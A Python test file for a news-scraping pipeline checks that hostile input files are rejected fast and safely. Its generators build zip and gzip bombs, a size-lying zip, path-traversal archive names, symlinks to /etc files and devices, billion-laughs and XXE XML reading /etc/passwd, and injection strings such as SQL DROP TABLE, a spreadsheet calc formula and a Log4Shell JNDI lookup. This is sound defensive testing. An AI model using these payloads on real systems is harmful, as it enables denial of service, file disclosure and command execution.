"""Files that would harm: they cost nothing but themselves, and nothing is read or written outside of the folders named."""

# ruff: noqa: E501  (a line of a table is a file)

import gzip
import io
import json
import os
import random
import resource
import shutil
import socket
import time
import zipfile
from pathlib import Path

import faults
import pyarrow as pa
import pytest

from pipeline import build
from pipeline.gather.clean import clean
from pipeline.gather.ingest import read
from pipeline.gather.records import Record, Reject
from pipeline.publish import release, warehouse
from schemas import Articles, Rejects

GOOD = (
    "The harbour board of Tarn Head voted on Monday to close pier {0} after divers found cracks in it.\n\n"
    "“It cannot be saved,” the board’s engineer, Mira Oduya, told reporters. She said {0} boats must move.\n"
)
PAGE = "<html><body><article><p>The harbour board met on Monday, its chairman said.</p></article></body></html>"

POISON = {
    "characters.txt": ("The board met, he said. " * 42_000).encode(),
    "quotes.txt": ("“Yes,” she said. " * 50_000).encode(),
    "line.jsonl": lambda path: path.write_bytes(b'{"text": "' + b"a" * 100_000_000 + b'"}\n'),
    "nul.txt": b"The board met.\0\0\0 It said \0 nothing.",
    "surrogate.json": json.dumps({"text": "The board met, \ud800 she said."}).encode(),
    "invisible.txt": "\u202e\u2066\u200b\u200d\ufeff\u202c".encode() * 1000,
    "encoding.txt": bytes(range(128, 160)) * 100,
    "broken.html": b"<html><body><div><p><table><tr><td></p><script>if (a < b) {</html",
    "broken.json": b'{"text": "The board met, she said.", "title": ',
    "broken.warc": b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<p>",
    "year0.json": json.dumps({"text": "The board met, she said.", "published_at": "0000-01-01"}).encode(),
    "year2999.json": json.dumps({"text": "The board met, she said.", "published_at": "2999-01-01T00:00:00Z"}).encode(),
    "tags.html": b"<html><body>" + b"<p>x</p>" * 200_000,
}
REASONS = {
    "characters.txt": "too_large", "quotes.txt": "too_large", "line.jsonl#1": "too_large", "nul.txt": "unreadable",
    "surrogate.json": "malformed", "invisible.txt": "empty", "encoding.txt": "unreadable", "broken.html": "empty",
    "broken.json": "malformed", "broken.warc#1": "malformed", "year0.json": "malformed", "year2999.json": "malformed",
    "tags.html": "too_large",
}  # fmt: skip


def put(folder, files):
    folder.mkdir(exist_ok=True)
    for name, content in files.items():
        if callable(content):
            content(folder / name)
        else:
            (folder / name).write_bytes(content)
    return folder


def measured(raw, folder):
    """Build; (exit code, seconds of the processor, growth of memory in MB)."""
    resident, seconds = peak(), time.process_time()
    code = faults.build(raw, folder)
    return code, time.process_time() - seconds, peak() - resident


def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.slow
def test_poison_among_good_articles(tmp_path, campaign):
    count = 990 if campaign else 10
    raw = put(tmp_path / "raw", {f"good{number}.txt": GOOD.format(number).encode() for number in range(count)})
    _, (code, alone, _) = faults.forked(measured, raw, tmp_path / "alone")
    assert code == 0
    put(raw, POISON)
    _, (code, seconds, growth) = faults.forked(measured, raw, tmp_path / "out")
    assert code == 0
    folder = release.latest(tmp_path / "out")
    assert release.verify(folder) == []
    assert warehouse.read_table(Articles, folder).num_rows == count
    rejects = warehouse.read_table(Rejects, folder).to_pylist()
    assert {row["source_file"]: row["reason"] for row in rejects} == REASONS
    assert all(row["detail"] for row in rejects)
    assert seconds < alone + 20
    assert growth < 400 + count / 2
    print(f"{count} published, {len(rejects)} rejected, {seconds - alone:.1f} s and {growth:.0f} MB more")


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    ['"' * 100_000 + " the board said.", "“Yes,” the board said. " * 2_000, "1,000 " * 5_000 + "said the board", "The board, " * 4_000],
    ids=["only marks", "quotations", "figures", "a list"],
)  # fmt: skip
def test_long_and_odd_texts_are_read_in_bounded_time(nlp, text):
    from pipeline.extract import extract

    began = time.process_time()
    found = extract(
        pa.table({"article_id": ["a" + "0" * 16], "text": [text], "published_day": pa.nulls(1, pa.date32())})
    )
    assert found["failures"].num_rows == 0
    assert time.process_time() - began < 60


def bomb(path):
    path.write_bytes(gzip.compress(b'{"text": "' + b"a" * 60_000_000))


def zip_bomb(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"a" * 60_000_000)


def lying_zip(path):
    """An archive whose directory says that its member is small."""
    zip_bomb(path)
    data = path.read_bytes()
    path.write_bytes(data.replace((60_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little")))


def nested(path):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("a.txt", GOOD)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("inner.zip", inner.getvalue())


def escaping(path):
    with zipfile.ZipFile(path, "w") as archive:
        for name in (
            "../out.txt",
            "/etc/out.txt",
            "a/../../out.txt",
            "..\\out.txt",
            "C:\\out.txt",
            "/dev/sda.txt",
            "//host/out.txt",
        ):
            archive.writestr(zipfile.ZipInfo(name), GOOD)


def many(path):
    """Members that all lie at one place, as in bombs that need no recursion."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"The board met. " * 200_000)
        first = archive.infolist()[0]
        for number in range(500):
            twin = zipfile.ZipInfo(f"{number:03}.txt")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type", "flag_bits"):
                setattr(twin, field, getattr(first, field))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin


HOSTILE = {
    "gzip bomb": ("a.jsonl.gz", bomb, {"too_large"}),
    "gzip bomb as a web archive": ("a.warc.gz", lambda path: path.write_bytes(gzip.compress(b"WARC/1.0\r\n" + b"a" * 60_000_000)), {"too_large", "malformed"}),
    "zip bomb": ("a.zip", zip_bomb, {"too_large"}),
    "zip bomb that lies": ("a.zip", lying_zip, {"too_large", "unreadable"}),
    "zip bomb of overlapping members": ("a.zip", many, {"unreadable", "malformed", "too_large"}),
    "archive in an archive": ("a.zip", nested, {"unsupported_format"}),
    "paths that lead out": ("a.zip", escaping, {"unreadable"}),
    "link out of the folder": ("a.txt", lambda path: path.symlink_to("/etc/hostname"), {"unreadable"}),
    "link to a device": ("a.txt", lambda path: path.symlink_to("/dev/zero"), {"unreadable"}),
    "device": ("a.txt", lambda path: os.mknod(path, 0o20666, os.makedev(1, 5)), {"unreadable"}),
    "pipe": ("a.txt", os.mkfifo, {"unreadable"}),
    "link to itself": ("a.txt", lambda path: path.symlink_to(path), {"unreadable"}),
    "link to the folder above": ("a", lambda path: path.symlink_to(".."), {"unreadable"}),
    "billion laughs": ("a.xml", lambda path: path.write_text('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]><rss><channel><item><description>&a11;</description></item></channel></rss>"), {"empty", "malformed"}),
    "one long entity": ("a.xml", lambda path: path.write_text(f'<!DOCTYPE r [<!ENTITY a "{"ha" * 50_000}">]><rss><channel><item><description>{"&a;" * 50_000}</description></item></channel></rss>'), {"empty", "malformed"}),
    "external entity": ("a.xml", lambda path: path.write_text('<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss><channel><item><description>&a;</description></item></channel></rss>'), {"empty", "malformed"}),
    "external definitions": ("a.xml", lambda path: path.write_text('<!DOCTYPE r SYSTEM "http://192.0.2.1/x.dtd"><rss><channel><item><description>&a;</description></item></channel></rss>'), {"empty", "malformed"}),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_refused_at_once(tmp_path, monkeypatch, name):
    file, make, reasons = HOSTILE[name]
    raw = tmp_path / "raw"
    raw.mkdir()
    try:
        make(raw / file)
    except PermissionError:
        pytest.skip("this machine does not allow to make one")
    monkeypatch.setattr(socket, "socket", lambda *_, **__: pytest.fail("asks the network"))
    before = sorted(tmp_path.rglob("*"))
    began = time.process_time()
    found = [clean(item) if isinstance(item, Record) else item for item in read(raw)]
    assert time.process_time() - began < 1
    rejects = [item for item in found if isinstance(item, Reject)]
    assert {item.reason for item in rejects} <= reasons
    assert rejects
    assert all(item.detail for item in rejects)
    assert len(found) - len(rejects) <= 1  # of overlapping members, the first is a file like any other
    assert sorted(tmp_path.rglob("*")) == before


def test_text_that_a_program_could_take_for_its_own(tmp_path):
    text = "<script>alert(1)</script> '; DROP TABLE articles; -- =cmd|' /C calc'!A0 {{7*7}} ${jndi:ldap://192.0.2.1/a} she said."
    put(
        tmp_path / "raw",
        {"a.json": json.dumps({"text": text, "title": "=1+1", "outlet": "@SUM(A1)", "language": "en"}).encode()},
    )
    (row,) = map(clean, read(tmp_path / "raw"))
    assert (row["text"], row["title"], row["outlet"]) == (text, "=1+1", "@SUM(A1)")


def test_marks_of_direction_and_no_width_go_from_scraped_text(tmp_path):
    put(
        tmp_path / "raw",
        {"a.txt": "\u202eThe board\u200b met on\u00ad Monday,\u2069 its\ufeff chairman said.".encode()},
    )
    (row,) = map(clean, read(tmp_path / "raw"))
    assert row["text"] == "The board met on Monday, its chairman said."


def test_random_bytes_under_any_name_are_no_article(tmp_path):
    chance = random.Random(1)
    names = [
        f"{number}{suffix}"
        for number in range(5)
        for suffix in (
            ".txt",
            ".html",
            ".json",
            ".jsonl",
            ".csv",
            ".xml",
            ".warc",
            ".warc.gz",
            ".zip",
            ".mhtml",
            ".txt.gz",
            ".txt.zst",
        )
    ]
    put(tmp_path / "raw", {name: chance.randbytes(2000) for name in names})
    found = [clean(item) if isinstance(item, Record) else item for item in read(tmp_path / "raw")]
    assert all(isinstance(item, Reject) and item.reason != "extraction_failed" for item in found)
    assert {item.source_file.split("#")[0] for item in found} == set(names)


def test_a_file_that_may_not_be_read(tmp_path):
    put(tmp_path / "raw", {"a.txt": b"The board met, she said."})
    (tmp_path / "raw" / "a.txt").chmod(0)
    if os.geteuid() == 0:
        pytest.skip("the superuser may read everything")
    (found,) = read(tmp_path / "raw")
    assert (found.reason, found.detail) == ("unreadable", "Permission denied")
    shutil.rmtree(tmp_path / "raw")
    assert not Path(tmp_path / "raw").exists()


def test_whether_anything_is_new_is_asked_of_no_file_outside(tmp_path, monkeypatch):
    read_files = []
    monkeypatch.setattr(build.metadata, "sha256", lambda path: read_files.append(path.name) or "0")
    raw = put(tmp_path / "raw", {"a.txt": GOOD.encode()})
    (raw / "b.txt").symlink_to("/etc/hostname")
    os.mkfifo(raw / "c.txt")
    first = build._inputs(raw)
    assert read_files == ["a.txt"]
    (raw / "b.txt").unlink()
    assert build._inputs(raw) != first
